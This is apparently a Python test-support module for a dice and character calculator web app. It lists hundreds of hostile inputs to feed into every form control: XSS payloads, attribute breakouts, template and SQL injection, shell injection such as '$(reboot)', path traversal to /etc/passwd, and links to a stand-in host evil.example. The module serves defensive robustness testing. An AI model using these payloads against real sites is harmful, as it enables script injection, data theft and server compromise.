"""Inputs that are malicious, or look so: name → what a user types, pastes or puts behind the question mark.

Every calculator answers each of them, in every control, in under a second (`make bench` measures it), with a sentence
and without a traceback. No part of them ever becomes markup. Add an input of each new kind, and remove none.
"""

import binascii
import os
import zlib
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

from build_scripts.render import TEMPLATES, render_calculator_response
from tests.support.sample_counts import IS_IN_BROWSER

MEGABYTE = 1_000_000

_MARKUP = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=//evil.example/x.js></script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed": "<script>alert(1)",
    "script-slash": "<script/x>alert(1)</script\t\n foo>",
    "script-module": '<script type="module">import("//evil.example")</script>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert&#40;1)</script></svg>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "math-href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "link-javascript": '<a href="javascript:alert(1)">d20</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "base-href": '<base href="//evil.example/">',
    "style-tag": "<style>*{display:none}</style>",
    "form-action": "<form action=//evil.example><button>roll</button></form>",
    "object-data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "template-tag": "<template><script>alert(1)</script></template>",
    "custom-element": '<scratch-calculator name="dice"></scratch-calculator>',
    "data-answer": "<output data-answer>20</output><b data-total>20</b>",
    "comment": "<!-- d20 -->",
    "comment-bang": "<!--!><img src=x onerror=alert(1)>-->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": "<!DOCTYPE html><html><body>d20",
    "processing": "<?xml version='1.0'?><?php echo 1 ?>",
    "entity-bomb": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>&b;',
    "close-textarea": "</textarea><script>alert(1)</script>",
    "close-title": "</title><script>alert(1)</script>",
    "close-form": "</form></scratch-calculator></main></body></html>",
    "close-script": "</script><script>alert(1)//",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "half-tag": "<",
    "open-bracket": "d20<img",
    "mutation": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "null-in-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "backtick-attribute": "`><img src=x onerror=alert(1)>",
    "markdown-link": "[d20](javascript:alert(1))",
    "markdown-fence": "```\n<script>alert(1)</script>\n```",
}

_BREAKOUTS = {
    "quote-double": '"',
    "quote-single": "'",
    "quote-onfocus": '" autofocus onfocus="alert(1)',
    "quote-onmouseover": "' onmouseover='alert(1)",
    "quote-close-tag": '"><script>alert(1)</script>',
    "quote-close-tag-single": "'><script>alert(1)</script>",
    "quote-style": '" style="position:fixed;inset:0',
    "quote-data-total": '" data-total="20" data-chance="1/1',
    "unquoted-attribute": "x onfocus=alert(1) autofocus",
    "entities": "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities-numeric": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "entities-no-semicolon": "&ltscript&gtalert(1)&lt/script&gt",
    "entities-double": "&amp;lt;script&amp;gt;",
    "javascript-url": "javascript:alert(1)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "fullwidth-brackets": "＜script＞alert(1)＜／script＞",
    "css-expression": "expression(alert(1))",
}

_TEMPLATES = {
    "jinja-expression": "{{7*7}}",
    "jinja-attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja-config": "{{config}}{{self._TemplateReference__context}}",
    "jinja-raw": "{% raw %}",
    "jinja-endraw": "{% endraw %}{{7*7}}",
    "jinja-for": "{% for i in range(1000000000) %}x{% endfor %}",
    "jinja-include": "{% include '/etc/passwd' %}",
    "jinja-comment": "{# d20",
    "dollar-template": "${7*7} #{7*7} <%= 7*7 %>",
    "format-braces": "{0.__class__.__init__.__globals__}{}{!r:>999999999}",
    "format-percent": "%s%s%n%x%(name)s%999999999d",
    "format-width": "%1000000000d",
    "backslashes": "\\x3cscript\\x3e\\u003c\\n\\",
    "regex-bomb": "(a+)+$" + "a" * 60 + "!",
    "python-eval": "__import__('os').system('id')",
    "python-attribute": "d20.__class__",
    "lambda": "(lambda: d20)()",
}

_ELSEWHERE = {
    "sql": "1; DROP TABLE characters; --",
    "sql-or": "' OR '1'='1",
    "shell": "$(reboot) `reboot` ; reboot | reboot && reboot",
    "path": "../../../../etc/passwd",
    "path-encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "path-windows": "..\\..\\windows\\win.ini",
    "file-url": "file:///etc/passwd",
    "crlf-header": "d20\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "csv-formula": '=HYPERLINK("//evil.example";"d20")',
    "proto": "__proto__",
    "proto-path": "__proto__[polluted]=1&constructor.prototype.polluted=1",
    "constructor": "constructor",
    "json": '{"roll": {"$gt": ""}, "__proto__": {"x": 1}}',
    "yaml": "!!python/object/apply:os.system ['id']",
    "dunder-class": "__class__=1&__dict__=2&raw=3",
    "nan": "NaN",
    "infinity": "-Infinity",
    "none": "None",
    "undefined": "undefined",
    "true": "true",
}

_CHARACTERS = {
    "null": "d20\x00+3",
    "nulls": "\x00" * 100,
    "controls": "".join(map(chr, range(32))),
    "controls-c1": "".join(map(chr, range(0x7F, 0xA0))),
    "escape-sequence": "\x1b[31md20\x1b[0m\x1b]0;owned\x07",
    "backspace": "d20\b\b\bd6",
    "form-feed": "d20\x0c+\x0b3",
    "rtl-override": "d20\u202e3+\u202c",
    "rtl-isolates": "\u2066d20\u2069\u2067+3",
    "zero-width": "d\u200b2\u200c0\u200d+\ufeff3",
    "bom": "\ufeffd20+3",
    "bom-wrong": "\ufffed20",
    "noncharacters": "\uffff\ufdd0\U0010ffff",
    "private-use": "\ue000\uf8ff\U000f0000",
    "line-separators": "d20\u2028+\u20293",
    "next-line": "d20\u0085+3",
    "no-break-space": "d20\u00a0+\u00a03",
    "only-spaces": "     ",
    "only-tabs": "\t\t\n\t",
    "only-line-ends": "\r\n\n\r\n",
    "ideographic-space": "\u3000\u3000",
    "emoji": "🎲",
    "emoji-zwj": "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈",
    "emoji-keycap": "d2️⃣0️⃣",
    "emoji-count": "🎲d20",
    "flags": "🇩🇪🇫🇷" * 50,
    "combining": "d20" + "\u0301\u0489" * 500,
    "zalgo": "d̷̡2̸̢0̵̨+̶͓3",
    "decomposed": "Cafe\u0301 A\u030a",
    "surrogate-high": "d20\ud800",
    "surrogate-low": "\udc00d20",
    "surrogate-pair-turned": "\udc00\ud800",
    "surrogate-escape": "d20\udcff",
    "digits-arabic": "d٢٠+٣",
    "digits-devanagari": "२d६",
    "digits-fullwidth": "２ｄ６＋３",
    "digits-superscript": "d20²",
    "digits-circled": "①d⑥",
    "digits-roman": "Ⅻdⅵ",
    "digits-bold": "𝟐d𝟔",
    "fraction-sign": "½d6",
    "letters-cyrillic": "ԁ20+3",
    "letters-turkish": "İıdİ20",
    "letters-sharp-s": "ß" * 200,
    "ligatures": "ﬃ ﷺ ǆ",
    "minus-signs": "d20−3–3—3‐3﹣3－3",
    "times-signs": "2×d6∗2⋅2✕2",
    "soft-hyphen": "d\u00ad20",
    "tag-characters": "d20" + "".join(chr(0xE0000 + ord(c)) for c in "script"),
    "variation-selectors": "d20" + "\ufe0f" * 300,
}

_ESCAPES = {
    "escape-alone": "%",
    "escape-half": "%2",
    "escape-not-hex": "%zz%u0041%GG",
    "escape-null": "%00",
    "escape-bad-utf8": "%ff%fe%c0%af",
    "escape-overlong": "%c0%bcscript%c0%be",
    "escape-surrogate": "%ed%a0%80",
    "escape-cut": "%e2%82",
    "escape-double": "%253Cscript%253Ealert(1)%253C/script%253E",
    "escape-many": "%41" * 5000,
    "escape-percents": "%" * 10_000,
    "pluses": "+" * 5000,
    "ampersands": "&" * 5000,
    "equals": "=" * 5000,
    "pair-bomb": "&".join(f"k{n}={n}" for n in range(4000)),
    "pair-bomb-dice": "&".join("roll=d20" for _ in range(3000)),
    "pair-twice": "d20&roll=d6&roll=<script>alert(1)</script>",
    "pair-nameless": "&=x&=y&&;=z",
    "semicolons": "d20;against=5;faces=20",
    "question-marks": "??roll=d20?",
    "hash": "d20#against=5",
}

_SIZES = {
    "megabyte-letters": "a" * MEGABYTE,
    "megabyte-nines": "9" * MEGABYTE,
    "megabyte-dice": "d20+" * (MEGABYTE // 4),
    "megabyte-spaces": " " * MEGABYTE + "d20",
    "megabyte-lines": "\n" * MEGABYTE,
    "megabyte-emoji": "🎲" * (MEGABYTE // 4),
    "megabyte-markup": "<b>" * (MEGABYTE // 3),
    "long-line": "x" * 15_000,
    "long-words": "shooting 1 " * 1500,
    "many-lines": "Shooting 1\n" * 1800,
    "many-commas": "," * 15_000,
    "many-faces": ",".join(["20"] * 5000),
    "many-abilities": "\n".join(f"ability{n} 1" for n in range(1400)),
    "parentheses-open": "(" * 100_000,
    "parentheses-nested": "(" * 100_000 + "1" + ")" * 100_000,
    "parentheses-in-limit": "(" * 99 + "1" + ")" * 99,
    "parentheses-close": ")" * 100_000,
    "brackets-nested": "[" * 5000 + "]" * 5000,
    "minus-run": "-" * 100_000 + "1",
    "sum-of-ones": "1+" * 9000 + "1",
    "json-nested": "[" * 9000 + "]" * 9000,
    "quotes-run": '"' * 15_000,
}

_DICE = {
    "huge-dice": "999999999d999999999",
    "huge-count": "1000000d6",
    "huge-sides": "d999999999999999999999999",
    "huge-number": "9" * 190,
    "huge-product": "*".join(["1000000"] * 24),
    "huge-dice-product": "*".join(["d1000"] * 30),
    "huge-pool-keep": "500d1000kh250",
    "huge-explosion": "500d2!20kh250",
    "huge-sum": "+".join(["d1000"] * 33),
    "exponent": "1e999999999",
    "exponent-stars": "9**9**9**9",
    "exponent-caret": "9^9^9",
    "hex": "0xFFFFFFFF",
    "underscores": "1_000d2_0",
    "decimal": "1.5d6",
    "negative-zero": "-0",
    "one-sided-explodes": "1d1!",
    "one-sided-explodes-often": "500d1!20",
    "zero-sides": "d0",
    "zero-dice": "0d6",
    "negative-dice": "-1d6",
    "negative-sides": "d-6",
    "negative-in-dice": "2d(-6)",
    "dice-of-dice": "d20d20d20",
    "dice-in-count": "(2d6)d6",
    "keep-too-many": "2d6kh3",
    "keep-none": "2d6kh0",
    "drop-all": "2d6dh2",
    "reroll-for-ever": "d6rr<7",
    "reroll-nearly-for-ever": "d1000rr<1000",
    "reroll-huge": "d6r>99999999999999999999",
    "explode-huge": "d6!999999999",
    "explode-all": "500d2!20",
    "division": "d20/0",
    "modulo": "d20%0",
    "operators": "+-*/%^!~",
    "trailing-plus": "d20+",
    "vs-nothing": "d20 vs",
    "vs-twice": "d20 vs 5 vs 6",
    "vs-huge": "d20 vs 99999999999999999999",
    "vs-minus": "d20 vs -5",
    "label-open": "d20 [sword",
    "label-markup": "d20 [<img src=x onerror=alert(1)>]",
    "label-quote": 'd20 [" onfocus=alert(1) x="]',
    "label-jinja": "d20 [{{7*7}}] + 3 [{% raw %}]",
    "label-emoji": "d20 [👩\u200d👧\u202e]",
    "label-nested": "d20 [[a]]",
    "label-empty": "d20 []",
    "faces-zero": "0",
    "faces-21": "21",
    "faces-minus": "-1,-2,-3",
    "faces-commas": ",,,",
    "faces-words": "twenty",
    "faces-huge": "9" * 5000,
    "faces-exponent": "1e3",
    "faces-spaces": "20 20 20",
}

_CHARACTER = {
    "sheet-markup": "<b>Evil</b>\nAgility 10\nShooting 2: <img src=x onerror=alert(1)>\nToughness 3",
    "sheet-quote": 'Bob " onfocus="alert(1)\nshooting 2 "><script>alert(1)</script>\ntoughness 3',
    "sheet-huge-level": "Shooting 99999999999999999999999999\nToughness 3",
    "sheet-negative-level": "Shooting -5\nToughness -3",
    "sheet-twice": "Shooting 2\nShooting 3\nshooting 4\nSHOOTING 5",
    "sheet-many-colons": ":" * 5000,
    "sheet-only-numbers": "1 2 3 4 5 6 7 8 9",
    "sheet-unknown": "Piloting 2\nStalking 3\nMagic ∞",
    "sheet-printed-lies": "Liar\nagility 99, intelligence -1, strength 0, stamina 1000000\n2 shooting\n3 toughness",
    "minions-huge": "99999999999999999999,1;2;3|4/5",
    "minions-many": "1," * 5000,
    "minions-words": "thug, thug: toughness 2; <script>alert(1)</script>",
    "show-everything": "all,sheet,<script>,../..,__init__",
    "level-fraction": "2.5",
    "level-plus": "++3",
    "level-spaces": "1 0",
    "level-huge-minus": "-" + "9" * 4400,
    "level-huge": "9" * 4400,
}

HOSTILE: dict[str, str] = {
    **_MARKUP,
    **_BREAKOUTS,
    **_TEMPLATES,
    **_ELSEWHERE,
    **_CHARACTERS,
    **_ESCAPES,
    **_SIZES,
    **_DICE,
    **_CHARACTER,
}

MET = list(HOSTILE)[:: 16 if IS_IN_BROWSER else 1]
"""The names of the inputs that are tested: all under CPython, a few inside Pyodide."""


@cache
def typed(name: str) -> str:
    """Return an input as a form sends it.

    Every character is escaped, and a lone surrogate is sent as its three bytes.
    """
    return quote(HOSTILE[name].encode("utf-8", "surrogatepass"), safe="")


# Where they are typed


PICKED: dict[str, tuple[str, ...]] = {
    "dice": ("roll", "against", "bonus", "faces"),
    "character": ("sheet", "name", "shooting", "cp", "max_level", "minions", "show"),
    "odds": ("first_sheet", "second", "here", "begins", "escape", "first", "second_sheet"),
    "board": ("map", "tokens", "selected", "space", "cover", "quickness", "shape"),
    "house": ("cp", "max_level", "strength_base"),
    "initiative": ("who", "system", "first", "ambush", "faces", "detection_multiplier"),
    "replay": ("scenario", "way", "strength_base", "fork", "dice", "step", "faces_4", "initiative_1"),
    "fight": (
        *("sheets", "initiative", "strength_base", "before", "log", "redo", "act", "faces", "note", "who", "picked"),
        *("check_actor", "check_ability", "check_difficulty", "check_requires"),
    ),
}
"""The most important controls, most important first, and those that no first page has."""


def calculators() -> tuple[str, ...]:
    """Return the names of all calculators.

    Each has a template; the names of partial templates begin with an underscore. Inside Pyodide, where templates are
    compiled and there is no folder of them, they are the keys of `PICKED`.
    """
    found = sorted(path.stem for path in Path(TEMPLATES).glob("*.html") if not path.stem.startswith("_"))
    return tuple(found or PICKED)


class _Controls(HTMLParser):
    """The names of the controls of a page, in its order."""

    def __init__(self) -> None:
        super().__init__()
        self.names: dict[str, bool] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Add a control's name."""
        given = dict(attrs)
        if tag in ("input", "textarea", "select") and given.get("name"):
            is_typed = tag == "textarea" or (
                tag == "input" and given.get("type", "text") in ("text", "search", "number")
            )
            self.names.setdefault(str(given["name"]), is_typed)


@cache
def controls(calculator: str) -> tuple[str, ...]:
    """Return the controls of a calculator, the most important first.

    The others follow in the order of the calculator's first page.
    """
    page = _Controls()
    page.feed(render_calculator_response(calculator, "").html)
    return tuple(dict.fromkeys((*PICKED.get(calculator, ()), *page.names)))


STRIDE = 6 if os.environ.get("HOSTILE") == "all" else 18


def packed_as_it_is(plain: str) -> str:
    """Pack the content of a packed link, well formed or not."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(plain.encode("utf-8", "replace")) + packer.flush()
    return "1" + binascii.b2a_base64(packed, newline=False).decode().translate(str.maketrans("+/", "-_")).rstrip("=")
